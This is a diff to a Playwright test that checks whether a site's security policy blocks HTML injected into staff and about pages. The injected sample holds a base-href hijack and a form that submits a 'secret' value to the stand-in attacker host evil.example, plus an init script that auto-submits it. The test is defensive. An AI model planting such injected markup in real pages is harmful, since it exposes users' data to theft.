@@ -1,5 +1,6 @@
 import { existsSync, globSync, readFileSync } from 'node:fs'
 import path from 'node:path'
+import type { Page } from '@playwright/test'
 import { accountEnv } from './account.ts'
 import { expect, test } from './fixtures.ts'
 import { rawRequest } from './raw-request.ts'
@@ -20,10 +21,21 @@ const injected = `
   <base href="https://evil.example/">
   <form id="stolen" action="https://evil.example/"><input name="a" value="secret"></form>`
 
+/** Before React finds what is not its own and throws it out. */
+const takeBait = (page: Page) =>
+  page.addInitScript(() =>
+    document.addEventListener('DOMContentLoaded', () => {
+      document.querySelector<HTMLElement>('#bait')?.click()
+      document.querySelector<HTMLFormElement>('#stolen')?.submit()
+      Reflect.set(window, 'baitTaken', document.querySelector('#stolen') !== null)
+    }),
+  )
+
 test.describe('a policy', { tag: '@once' }, () => {
   test('holds back whatever was written into a staff page', async ({ page, context, site, allowed }) => {
     allowed.push(everything)
     await signIn(context, site)
+    await takeBait(page)
     const reached: string[] = []
     await context.route(/evil\.example/, (route) => {
       reached.push(route.request().url())
@@ -39,10 +51,10 @@ test.describe('a policy', { tag: '@once' }, () => {
         const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + injected)
         await route.fulfill({ response, body })
       })
-      await page.goto(address)
-      await page.locator('#bait').evaluate((link: HTMLElement) => link.click())
-      await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit())
-      await page.waitForLoadState('networkidle')
+      const picture = page.waitForResponse('**/missing.png')
+      await page.goto(address, { waitUntil: 'domcontentloaded' })
+      await picture
+      expect(await page.evaluate(() => Reflect.get(window, 'baitTaken')), address).toBe(true)
       expect(await page.evaluate(() => Reflect.get(window, 'pwned')), address).toBeUndefined()
       expect(await page.evaluate(() => document.baseURI), address).toContain(site.url)
     }
@@ -55,6 +67,7 @@ test.describe('a policy', { tag: '@once' }, () => {
     context,
   }) => {
     allowed.push(everything)
+    await takeBait(page)
     const reached: string[] = []
     await context.route(/evil\.example/, (route) => {
       reached.push(route.request().url())
@@ -67,7 +80,6 @@ test.describe('a policy', { tag: '@once' }, () => {
       await route.fulfill({ response, body })
     })
     await page.goto('/about')
-    await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit())
     await page.waitForLoadState('networkidle')
     expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
     expect(reached).toEqual([])
